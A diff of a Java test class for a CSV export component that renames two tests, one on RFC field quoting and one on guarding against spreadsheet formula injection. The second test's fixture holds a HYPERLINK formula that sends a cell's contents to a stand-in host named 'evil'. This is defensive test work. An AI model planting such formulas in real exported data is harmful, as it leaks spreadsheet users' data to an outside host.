@@ -46,7 +46,7 @@ class CsvSinkTest {
     }
 
     @Test
-    void quotesCommasAndLineBreaksInsideAFieldAreQuotedAsTheRfcSays() {
+    void quotesFieldsAsTheRfcSays() {
         assertThat(Written.by(CSV, ROW_AND_TITLE, SampleRecords.titled("a \"b\", c\r\nd", Map.of())))
                 .isEqualTo("row,title,word_count\r\n1,\"a \"\"b\"\", c\r\nd\",\r\n");
     }
@@ -60,7 +60,7 @@ class CsvSinkTest {
     }
 
     @Test
-    void aHostilePageCannotRunInASpreadsheetUnlessTheUserTurnsTheGuardOff() {
+    void guardsFormulasUnlessTurnedOff() {
         CrawlRecord hostile = SampleRecords.titled("=HYPERLINK(\"http://evil/\"&A1)", Map.of("k", ";=1"));
         SinkOptions options = SinkOptions.builder().columns(Columns.ALL.select(List.of("title", "input"))).build();
         assertThat(Written.by(CSV, options, hostile))
